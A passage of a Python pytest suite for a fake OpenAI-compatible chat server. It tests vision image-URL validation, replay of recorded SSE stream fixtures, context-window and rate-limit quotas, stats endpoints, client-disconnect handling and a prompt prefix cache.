    deltas = _tool_deltas(srv.chat(body(stream=True)).body)
    assert [(d["index"], d["function"]["name"]) for d in deltas] == [(0, "Read"), (1, "Grep")]
    assert all(d["id"].startswith("call_") and json.loads(d["function"]["arguments"]) for d in deltas)


# ---------------------------------------------------------------- images
PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\x00" * 16).decode()
VISION = "llama-4-scout-17b-16e-instruct"


def image_part(url: str) -> dict[str, Any]:
    return {"type": "image_url", "image_url": {"url": url}}


def image_body(url: str, model: str = VISION) -> dict[str, Any]:
    return body(model=model, messages=[{"role": "user", "content": [
        {"type": "text", "text": "what is this?"}, image_part(url)]}])


@pytest.fixture
def vision_server(serve: Any) -> Any:
    return serve(strict=True, models=(VISION, "gpt-oss-120b"), vision_models=(VISION,))


@pytest.mark.parametrize("kind", ["png", "jpeg", "gif", "webp"])
def test_vision_model_accepts_a_base64_data_url(vision_server: Any, kind: str) -> None:
    resp = vision_server.chat(image_body(f"data:image/{kind};base64,{PNG}"))
    assert resp.status == 200, resp.body


BAD_IMAGE_URLS = {
    "litellm_174_dict_repr": "data:image;base64,{'type': 'base64', 'media_type': 'image/png', "
                             f"'data': '{PNG}'}}",
    "no_subtype": f"data:image;base64,{PNG}",
    "svg": f"data:image/svg+xml;base64,{PNG}",
    "not_base64": "data:image/png;base64,@@@@",
    "bad_padding": "data:image/png;base64,abc",
    "remote_url": "https://example.com/cat.png",
    "empty": "data:image/png;base64,",
}


@pytest.mark.parametrize("name", sorted(BAD_IMAGE_URLS))
def test_vision_model_rejects_a_broken_image_url(vision_server: Any, name: str) -> None:
    resp = vision_server.chat(image_body(BAD_IMAGE_URLS[name]))
    assert resp.status == 400, resp.body
    err = resp.json()
    assert (err["type"], err["code"]) == ("invalid_request_error", "wrong_api_format")
    assert "image_url.url" in err["message"] and "data URL" in err["message"]


def test_images_are_refused_for_text_models_and_outside_user_messages(vision_server: Any) -> None:
    url = f"data:image/png;base64,{PNG}"
    text_model = vision_server.chat(image_body(url, model="gpt-oss-120b"))
    assert text_model.status == 400 and "'image_url' is not supported" in text_model.json()["message"]
    in_tool = vision_server.chat(body(model=VISION, messages=tool_turn() + [
        {"role": "tool", "tool_call_id": "call_1", "content": [image_part(url)]}]))
    assert in_tool.status == 400 and "must be a string" in in_tool.json()["message"]
    in_assistant = vision_server.chat(body(model=VISION, messages=[
        user(), {"role": "assistant", "content": [image_part(url)]}, user()]))
    assert in_assistant.status == 400
    assert vision_server.chat(image_body(url)).status == 200


# ---------------------------------------------------------------- the recorded streams
def reassemble(events: list[Any]) -> dict[str, Any]:
    """A reference OpenAI-stream reader: what the expected.json files must agree with."""
    text, calls, finish, usage = "", {}, None, None
    for event in events:
        if event == "[DONE]":
            continue
        usage = event.get("usage") or usage
        for choice in event["choices"]:
            delta = choice["delta"]
            text += delta.get("content") or ""
            for tc in delta.get("tool_calls") or []:
                call = calls.setdefault(tc["index"], {"id": None, "name": None, "arguments": ""})
                call["id"] = tc.get("id") or call["id"]
                fn = tc.get("function") or {}
                call["name"] = fn.get("name") or call["name"]
                call["arguments"] += fn.get("arguments") or ""
            finish = choice.get("finish_reason") or finish
    content: list[dict[str, Any]] = [{"type": "text", "text": text}] if text else []
    content += [{"type": "tool_use", "id": c["id"], "name": c["name"],
                 "input": json.loads(c["arguments"]) if c["arguments"] else {}}
                for _, c in sorted(calls.items())]
    return {"content": content, "stop_reason": {"stop": "end_turn", "tool_calls": "tool_use"}[finish],
            "usage": anthropic_usage(usage)}


def anthropic_usage(usage: dict[str, Any]) -> dict[str, int]:
    """Anthropic's count: input_tokens exclude the prompt tokens read from the cache (issue 21 A)."""
    out = {"input_tokens": usage["prompt_tokens"], "output_tokens": usage["completion_tokens"]}
    cached = (usage.get("prompt_tokens_details") or {}).get("cached_tokens")
    if cached is not None:
        out.update(input_tokens=usage["prompt_tokens"] - cached, cache_read_input_tokens=cached)
    return out


def test_every_fixture_has_an_expected_file_and_the_readme_lists_it() -> None:
    assert len(FIXTURES) == 13
    readme = (STREAMS / "README.md").read_text()
    for name in FIXTURES:
        assert (STREAMS / name.replace(".sse", ".expected.json")).is_file(), name
        assert f"`{name}`" in readme, name


@pytest.mark.parametrize("name", FIXTURES)
def test_fixture_is_valid_sse_and_agrees_with_its_expected_file(name: str) -> None:
    raw = (STREAMS / name).read_bytes()
    expected = json.loads((STREAMS / name.replace(".sse", ".expected.json")).read_text())
    blocks = raw.decode("utf-8").split("\n\n")
    assert blocks[-1] == ""  # every event complete, even in the truncated files
    events = []
    for block in blocks[:-1]:
        assert block.startswith("data: ") and "\n" not in block, block
        data = block[len("data: "):]
        events.append(data if data == "[DONE]" else json.loads(data))
    objs = [e for e in events if e != "[DONE]" and "error" not in e]  # error events: flat, no id
    assert all(e["object"] == "chat.completion.chunk" and e["model"] == "{model}" for e in objs)
    assert len({e["id"] for e in objs}) == 1
    assert all(json.dumps(e, separators=(",", ":"), ensure_ascii=False) in raw.decode() for e in objs)
    if expected.get("truncated"):
        assert expected["truncated"] is True and set(expected) <= {"truncated", "error_says"}
        assert "[DONE]" not in events
        assert not any(c.get("finish_reason") for e in objs for c in e["choices"])
        return
    assert events[-1] == "[DONE]" and events.count("[DONE]") == 1
    assert reassemble(events) == expected
    if name.startswith(("cerebras_", "one_delta")):
        finish = objs[-1]
        assert {"usage", "time_info"} <= set(finish) and finish["choices"][0]["finish_reason"]
        assert set(finish["time_info"]) == {"queue_time", "prompt_time", "completion_time",
                                            "total_time", "created"}


# ---------------------------------------------------------------- context window, quota, stats
RATE_LIMIT_NAMES = ("x-ratelimit-limit-tokens-minute", "x-ratelimit-remaining-tokens-minute",
                    "x-ratelimit-reset-tokens-minute", "x-ratelimit-limit-requests-day",
                    "x-ratelimit-remaining-requests-day", "x-ratelimit-reset-requests-day")


def stats(srv: Any) -> dict[str, Any]:
    return request("GET", srv.url + "/_fake/stats").json()


def remaining(resp: Any) -> int:
    return int(resp.headers["x-ratelimit-remaining-tokens-minute"])


def stream_usage(resp: Any) -> dict[str, Any]:
    return next(c["usage"] for c in reversed(_chunks(resp.body)[:-1]) if c.get("usage"))


def test_prompt_tokens_is_a_quarter_of_the_utf8_json_of_messages_and_tools() -> None:
    msgs = [user("héllo wörld ✓ " * 10)]
    compact = json.dumps(msgs, ensure_ascii=False, separators=(",", ":")).encode()
    assert fc.prompt_tokens(body(messages=msgs)) == -(-len(compact) // 4)
    tools = json.dumps([AGENT_TOOL], ensure_ascii=False, separators=(",", ":")).encode()
    assert fc.prompt_tokens(body(messages=msgs, tools=[AGENT_TOOL])) == \
        -(-(len(compact) + len(tools)) // 4)
    assert fc.prompt_tokens({"messages": []}) == 1
    assert fc.requested_output(body()) == 0
    assert fc.requested_output(body(max_tokens=7)) == 7
    assert fc.requested_output(body(max_tokens=7, max_completion_tokens=9)) == 9


def test_context_window_admits_up_to_the_limit_and_refuses_beyond_it(serve: Any) -> None:
    req = body(messages=[user("x" * 400)])
    prompt = fc.prompt_tokens(req)
    srv = serve(strict=True, context_window=prompt + 10)
    fits = srv.chat(dict(req, max_tokens=10))
    assert fits.status == 200, fits.body
    assert fits.json()["usage"]["prompt_tokens"] == prompt
    streamed = srv.chat(dict(req, max_tokens=10, stream=True))
    assert stream_usage(streamed)["prompt_tokens"] == prompt
    over = srv.chat(dict(req, max_tokens=11))
    assert over.status == 400
    assert over.json() == {
        "message": "Please reduce the length of the messages or completion. "
                   f"Current length is {prompt + 11} while limit is {prompt + 10}",
        "type": "invalid_request_error", "param": "messages", "code": "context_length_exceeded"}
    assert not any(h.startswith("x-ratelimit") for h in over.headers)  # quota off
    # max_completion_tokens counts, and before max_tokens.
    assert srv.chat(dict(req, max_completion_tokens=11)).status == 400
    assert srv.chat(dict(req, max_completion_tokens=11, max_tokens=1)).status == 400
    assert srv.chat(dict(req, max_completion_tokens=10, max_tokens=500)).status == 200
    # The prompt alone can be too long.
    tight = serve(context_window=prompt - 1).chat(req)
    assert tight.status == 400 and f"Current length is {prompt} while" in tight.json()["message"]


def test_context_window_off_by_default_never_refuses(serve: Any) -> None:
    assert fc.Config().context_window == 0 and fc.Config().tokens_per_minute == 0
    resp = serve().chat(body(messages=[user("y" * 2_000_000)], max_tokens=10**9))
    assert resp.status == 200
    assert resp.json()["usage"]["prompt_tokens"] > 500_000


def test_quota_refuses_what_does_not_fit_until_the_window_turns(serve: Any) -> None:
    prompt = fc.prompt_tokens(body())
    limit = prompt + 100
    srv = serve(tokens_per_minute=limit, quota_window_seconds=2)
    first = srv.chat(body(max_tokens=100))  # exactly fits: prompt + 100 reserved
    assert first.status == 200, first.body
    cost = first.json()["usage"]["total_tokens"]
    assert remaining(first) == limit - cost
    refused = srv.chat(body(max_tokens=100))
    assert refused.status == 429
    assert refused.json() == {"message": "Tokens per minute limit exceeded - too many tokens processed.",
                              "type": "too_many_requests_error", "param": "quota",
                              "code": "token_quota_exceeded"}
    assert set(RATE_LIMIT_NAMES) <= set(refused.headers)
    assert remaining(refused) == limit - cost  # a refusal charges nothing
    reset = float(refused.headers["x-ratelimit-reset-tokens-minute"])
    assert 0 < reset <= 2
    assert refused.headers["x-ratelimit-reset-tokens-minute"] == f"{reset:.2f}"
    assert int(refused.headers["x-ratelimit-remaining-requests-day"]) == 14400 - 1
    assert 86400 - 3 < float(refused.headers["x-ratelimit-reset-requests-day"]) <= 86400
    time.sleep(reset + 0.05)
    after = srv.chat(body(max_tokens=100))
    assert after.status == 200, after.body
    assert remaining(after) == limit - after.json()["usage"]["total_tokens"]
    assert int(after.headers["x-ratelimit-remaining-requests-day"]) == 14400 - 2


def test_quota_reserves_prompt_plus_max_tokens_up_front(serve: Any) -> None:
    prompt = fc.prompt_tokens(body())
    srv = serve(tokens_per_minute=prompt + 50)
    too_much = srv.chat(body(max_tokens=51))  # the prompt alone would fit
    assert too_much.status == 429 and remaining(too_much) == prompt + 50
    assert srv.chat(body(max_completion_tokens=51, max_tokens=1)).status == 429
    assert srv.chat(body(max_tokens=50)).status == 200


def test_quota_headers_on_every_answer_and_remaining_drops_by_the_actual_cost(serve: Any) -> None:
    limit = 100_000
    srv = serve(tokens_per_minute=limit, requests_per_day=50)
    plain = srv.chat(body(max_tokens=5000))  # the reservation is replaced by the actual cost
    assert plain.status == 200 and set(RATE_LIMIT_NAMES) <= set(plain.headers)
    usage = plain.json()["usage"]
    assert usage["prompt_tokens"] == fc.prompt_tokens(body())
    assert remaining(plain) == limit - usage["prompt_tokens"] - usage["completion_tokens"]
    req = body(stream=True, tools=[AGENT_TOOL])
    streamed = srv.chat(req)
    assert streamed.status == 200 and set(RATE_LIMIT_NAMES) <= set(streamed.headers)
    usage2 = stream_usage(streamed)
    assert usage2["prompt_tokens"] == fc.prompt_tokens(req)
    assert remaining(streamed) == remaining(plain) - usage2["prompt_tokens"] - usage2["completion_tokens"]
    assert streamed.headers["x-ratelimit-limit-tokens-minute"] == str(limit)
    assert (streamed.headers["x-ratelimit-limit-requests-day"],
            streamed.headers["x-ratelimit-remaining-requests-day"]) == ("50", "48")
    # A queued stream is charged what its usage says; a queued error keeps its own headers.
    enqueue(srv, {"kind": "sse", "file": "cerebras_text.sse"}, {"kind": "error", "status": 503})
    replayed = srv.chat(body(stream=True))
    assert remaining(replayed) == remaining(streamed) - fc.prompt_tokens(body()) - 7
    unavailable = srv.chat(body())
    assert unavailable.status == 503
    assert not any(h.startswith("x-ratelimit") for h in unavailable.headers)
    assert remaining(srv.chat(body())) < remaining(replayed)


def test_window_then_quota_then_queue_and_refusals_take_no_entry(serve: Any) -> None:
    prompt = fc.prompt_tokens(body())
    srv = serve(context_window=prompt + 20, tokens_per_minute=prompt + 10)
    enqueue(srv, {"kind": "completion", "message": {"role": "assistant", "content": "queued"}})
    over_window = srv.chat(body(max_tokens=21))  # over the window and the quota: the window wins
    assert over_window.status == 400 and over_window.json()["code"] == "context_length_exceeded"
    assert set(RATE_LIMIT_NAMES) <= set(over_window.headers)
    assert remaining(over_window) == prompt + 10
    assert srv.chat(body(max_tokens=11)).status == 429
    assert queued(srv) == 1
    resp = srv.chat(body(max_tokens=10))
    assert resp.json()["choices"][0]["message"]["content"] == "queued"
    assert queued(srv) == 0


def test_requests_per_day_are_counted_and_limited(serve: Any) -> None:
    srv = serve(tokens_per_minute=10_000, requests_per_day=2)
    assert [srv.chat(body()).headers["x-ratelimit-remaining-requests-day"] for _ in range(2)] == \
        ["1", "0"]
    spent = srv.chat(body())
    assert spent.status == 429 and spent.json()["code"] == "request_quota_exceeded"


def test_requests_per_minute_are_limited_per_quota_window(serve: Any) -> None:
    # Cerebras' free tier: 30 requests a minute besides the tokens; here 2 per window.
    srv = serve(tokens_per_minute=10_000, requests_per_minute=2, quota_window_seconds=60)
    assert [srv.chat(body()).headers["x-ratelimit-remaining-requests-minute"] for _ in range(2)] == \
        ["1", "0"]
    spent = srv.chat(body())
    assert spent.status == 429 and spent.json()["message"] == fc.REQUESTS_PER_MINUTE_MESSAGE
    assert "x-ratelimit-limit-requests-minute" not in serve(tokens_per_minute=10_000).chat(body()).headers


def test_stats_count_answers_refusals_and_tokens_and_reset(serve: Any) -> None:
    prompt = fc.prompt_tokens(body())
    srv = serve(context_window=prompt + 100, tokens_per_minute=prompt + 60)
    assert stats(srv) == {"requests": 0, "by_status": {}, "context_length_exceeded": 0,
                          "rate_limited": 0, "max_prompt_tokens": 0, "tokens_charged": 0,
                          "reads_issued": 0, "summaries_asked": 0}
    ok = srv.chat(body(max_tokens=50))
    cost = ok.json()["usage"]["total_tokens"]
    assert srv.chat(body(max_tokens=101)).status == 400  # over the window
    assert srv.chat(body(max_tokens=60)).status == 429  # over the quota
    assert srv.chat(body(), token=None).status == 401
    enqueue(srv, {"kind": "error", "status": 429})
    assert srv.chat(body()).status == 429  # queued: not counted as rate_limited
    got = stats(srv)
    assert got == {"requests": 5, "by_status": {"200": 1, "400": 1, "401": 1, "429": 2},
                   "context_length_exceeded": 1, "rate_limited": 1, "max_prompt_tokens": prompt,
                   "tokens_charged": cost, "reads_issued": 0, "summaries_asked": 0}
    reset = request("DELETE", srv.url + "/_fake/stats")
    assert reset.status == 200 and reset.json()["requests"] == 0
    assert stats(srv)["by_status"] == {}


def test_quota_off_sends_no_rate_limit_headers(serve: Any) -> None:
    srv = serve()
    for resp in (srv.chat(body()), srv.chat(body(stream=True))):
        assert resp.status == 200
        assert not any(h.startswith("x-ratelimit") for h in resp.headers)
    assert stats(srv)["tokens_charged"] > 0  # counted with the quota off too


def test_cli_parses_the_window_and_quota_options() -> None:
    config = fc.build_config(fc.parse_args([]))
    assert (config.context_window, config.tokens_per_minute, config.quota_window_seconds,
            config.requests_per_day) == (0, 0, 60.0, 14400)
    config = fc.build_config(fc.parse_args(["--context-window", "131072", "--tokens-per-minute",
                                            "60000", "--quota-window-seconds", "2",
                                            "--requests-per-day", "100"]))
    assert (config.context_window, config.tokens_per_minute, config.quota_window_seconds,
            config.requests_per_day) == (131072, 60000, 2.0, 100)
    with pytest.raises(SystemExit):
        fc.build_config(fc.parse_args(["--quota-window-seconds", "0"]))


def test_read_files_script_drives_a_session_and_answers_compaction_with_a_summary(serve: Any) -> None:
    srv = serve(read_files=("/p/a.txt", "/p/b.txt"))

    def ask(content: str, tools: bool = True) -> dict[str, Any]:
        resp = srv.chat(body(messages=[user(content)], **({"tools": [READ_TOOL]} if tools else {})))
        assert resp.status == 200, resp.body
        return resp.json()["choices"][0]["message"]

    def read_path(message: dict[str, Any]) -> str:
        return json.loads(message["tool_calls"][0]["function"]["arguments"])["file_path"]

    assert read_path(ask("start")) == "/p/a.txt"
    assert ask("title please", tools=False)["content"] == fc.TEXT_ANSWER  # a side request passes by
    summary = ask("Your task is to create a detailed summary of the conversation so far")
    assert summary["content"] == fc.SUMMARY_ANSWER and "tool_calls" not in summary
    assert read_path(ask("next")) == "/p/b.txt"
    assert ask("next")["content"] == fc.TEXT_ANSWER  # the list is done
    stats = request("GET", srv.url + "/_fake/stats").json()
    assert (stats["reads_issued"], stats["summaries_asked"]) == (2, 1)


def test_reads_per_answer_asks_for_several_files_at_once(serve: Any) -> None:
    srv = serve(read_files=("/p/a", "/p/b", "/p/c"), reads_per_answer=2)

    def paths() -> list[str]:
        resp = srv.chat(body(messages=[user("next")], tools=[READ_TOOL]))
        calls = resp.json()["choices"][0]["message"].get("tool_calls") or []
        return [json.loads(c["function"]["arguments"])["file_path"] for c in calls]

    assert paths() == ["/p/a", "/p/b"]
    assert paths() == ["/p/c"]
    assert paths() == []
    assert request("GET", srv.url + "/_fake/stats").json()["reads_issued"] == 3
    config = fc.build_config(fc.parse_args(["--reads-per-answer", "2", "--requests-per-minute", "30"]))
    assert (config.reads_per_answer, config.requests_per_minute) == (2, 30)


# ---------------------------------------------------------------- /_fake/answers and chunk_delay
def answers(srv: Any) -> list[dict[str, Any]]:
    return request("GET", srv.url + "/_fake/answers").json()["answers"]


def answer_outcome(srv: Any, index: int, timeout: float = 5.0) -> dict[str, Any]:
    """The index-th answer's record once it has an outcome (polled, with a deadline)."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        records = answers(srv)
        if len(records) > index and records[index]["outcome"] is not None:
            return records[index]
        time.sleep(0.02)
    raise AssertionError(f"answer {index} has no outcome after {timeout}s: {answers(srv)}")


def slow_answer(words: int, chunk_delay: float) -> dict[str, Any]:
    """A queued text answer of ``words`` one-word chunks, ``chunk_delay`` s apart."""
    text = " ".join(f"w{i}" for i in range(words))
    return {"kind": "completion", "message": {"role": "assistant", "content": text},
            "finish_reason": "stop", "chunk_delay": chunk_delay}


def open_chat(srv: Any, req: dict[str, Any]) -> socket.socket:
    """A chat request sent on a raw socket, its answer left unread."""
    payload = json.dumps(req).encode()
    sock = socket.create_connection(("127.0.0.1", srv.httpd.server_address[1]), timeout=5)
    sock.sendall((f"POST /v1/chat/completions HTTP/1.1\r\nHost: fake\r\nAuthorization: Bearer {KEY}\r\n"
                  f"Content-Type: application/json\r\nContent-Length: {len(payload)}\r\n\r\n").encode()
                 + payload)
    return sock


def test_answers_records_every_answer_finished_with_its_chunks_and_delete_empties_it(serve: Any) -> None:
    srv = serve(stream_tokens=5)
    assert answers(srv) == []
    enqueue(srv, slow_answer(4, 0.05))
    start = time.perf_counter()
    chunks = _chunks(srv.chat(body(stream=True)).body)
    assert time.perf_counter() - start >= 4 * 0.05  # role chunk, then each chunk 50 ms apart
    srv.chat(body())
    first, second = answer_outcome(srv, 0), answer_outcome(srv, 1)
    # role + 4 words + finish + [DONE] (the end chunk rides on the [DONE] frame)
    assert (first["stream"], first["outcome"], first["chunks_written"]) == (True, "finished", len(chunks))
    assert len(chunks) == 7 and first["model"] == "qwen-3-coder-480b"
    assert (second["stream"], second["outcome"], second["chunks_written"]) == (False, "finished", 1)
    # Oldest first. Not first["ended"] <= second["started"]: the fake records an answer's end after
    # its last write, and the client may send its next request before that record is made.
    assert first["started"] <= first["ended"] and first["started"] <= second["started"] <= second["ended"]
    assert request("DELETE", srv.url + "/_fake/answers").json() == {"answers": []}
    assert answers(srv) == []


def test_a_client_leaving_a_slow_stream_is_seen_at_once_and_the_rest_is_not_written(serve: Any) -> None:
    srv = serve()
    enqueue(srv, slow_answer(100, 0.1))  # a 10 s answer
    sock = open_chat(srv, body(stream=True))
    got = b""
    while got.count(b"data: ") < 3:
        got += sock.recv(65536)
    assert answers(srv)[0]["outcome"] is None  # still being written
    sock.close()
    left = time.time()
    record = answer_outcome(srv, 0)
    print(f"stream: the fake saw the client leave {record['ended'] - left:.3f}s after it did")
    assert record["outcome"] == "client_closed"
    assert 3 <= record["chunks_written"] < 10
    assert record["ended"] - left < 0.5


def test_a_client_leaving_a_slow_whole_answer_is_seen_at_once_and_nothing_is_sent(serve: Any) -> None:
    srv = serve()
    enqueue(srv, slow_answer(100, 0.1))  # sent after 10 s
    sock = open_chat(srv, body())
    deadline = time.monotonic() + 5
    while not answers(srv) and time.monotonic() < deadline:  # the fake is "generating"
        time.sleep(0.02)
    sock.close()
    left = time.time()
    record = answer_outcome(srv, 0)
    print(f"whole answer: the fake saw the client leave {record['ended'] - left:.3f}s after it did")
    assert (record["stream"], record["outcome"], record["chunks_written"]) == (False, "client_closed", 0)
    assert record["ended"] - left < 0.5
    assert srv.chat(body()).status == 200  # and the next request is answered


@pytest.mark.parametrize("delay", [-1, "1", True, 61])
def test_chunk_delay_must_be_a_number_of_seconds(serve: Any, delay: Any) -> None:
    srv = serve()
    assert enqueue(srv, dict(slow_answer(2, 0), chunk_delay=delay)).status == 400
    assert enqueue(srv, {"kind": "error", "status": 500, "chunk_delay": 1}).status == 400
    assert queued(srv) == 0


# ---------------------------------------------------------------- the prompt prefix cache
def test_cached_tokens_are_the_common_prefix_with_the_previous_request(serve: Any) -> None:
    srv = serve(strict=True, prefix_cache=True)
    first = body(messages=[user("a" * 400)], tools=[AGENT_TOOL])
    longer = dict(first, messages=first["messages"] + [{"role": "assistant", "content": "ok"}, user("more")])
    assert srv.chat(first).json()["usage"]["prompt_tokens_details"] == {"cached_tokens": 0}
    usage = stream_usage(srv.chat(dict(longer, stream=True)))
    shared = fc.common_prefix_length(fc.PrefixCache.key(first), fc.PrefixCache.key(longer))
    assert usage["prompt_tokens_details"]["cached_tokens"] == shared // 4 > 100
    assert usage["prompt_tokens"] == fc.prompt_tokens(longer)
    again = srv.chat(longer).json()["usage"]
    assert again["prompt_tokens_details"]["cached_tokens"] == len(fc.PrefixCache.key(longer)) // 4  # all of it


def test_a_queued_answer_can_set_its_cached_tokens(serve: Any) -> None:
    srv = serve(strict=True)
    assert enqueue(srv, {"kind": "completion", "message": {"role": "assistant", "content": "hi"},
                         "cached_tokens": 3}).status == 200
    assert srv.chat(body()).json()["usage"]["prompt_tokens_details"] == {"cached_tokens": 3}
    assert enqueue(srv, {"kind": "completion", "message": {}, "cached_tokens": -1}).status == 400


def test_common_prefix_length() -> None:
    assert fc.common_prefix_length(b"", b"abc") == 0
    assert fc.common_prefix_length(b"abcd", b"abxd") == 2
    assert fc.common_prefix_length(b"abc", b"abc") == 3
